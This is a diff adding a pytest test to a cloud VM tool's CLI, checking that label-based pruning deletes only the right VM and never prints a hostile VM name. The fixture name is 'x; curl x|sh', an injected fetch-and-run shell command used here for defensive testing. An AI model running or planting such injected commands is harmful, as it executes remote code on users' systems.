@@ -371,6 +371,16 @@ def test_of_two_changes_each_is_told_as_it_went(use: Use, cli: Any, file: Path) 
     assert ran.code == 1
 
 
+def test_pruned_is_what_can_be_a_vm_and_called_what_can_be_a_name(use: Use, cli: Any, file: Path) -> None:
+    """Hints have both in commands, which are copied into shells."""
+    evil, web = "x; curl x|sh", {"role": "web"}
+    session = use(Cloud({"h1": [web1(), web2(), vm(OLD, name=evil, labels=web), vm(evil, labels=web)]}))
+    ran = cli("apply", "-f", str(file), "--prune", "--label", "role=web", "--yes", "-o", "table")
+    assert [key for key, command, _ in session.asked if command == "delete-vm"] == [f"vm.{OLD}"]
+    assert rows(ran)[-1][:2] == [OLD, "deleted"]
+    assert evil not in ran.out + ran.err
+
+
 class TestPruning:
     def cloud(self, **more: Any) -> Cloud:
         old = vm(OLD, name="old", labels={"role": "web"})
